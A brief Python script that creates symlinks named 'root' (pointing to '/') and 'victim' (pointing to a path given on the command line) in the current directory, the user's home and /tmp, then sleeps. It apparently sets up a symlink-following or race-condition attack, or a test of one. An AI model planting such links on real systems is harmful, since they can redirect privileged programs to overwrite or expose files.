import os
import sys
import time

for folder in (".", os.path.expanduser("~"), "/tmp"):
    os.symlink("/", os.path.join(folder, "root"))
    os.symlink(sys.argv[1], os.path.join(folder, "victim"))
time.sleep(1.5)
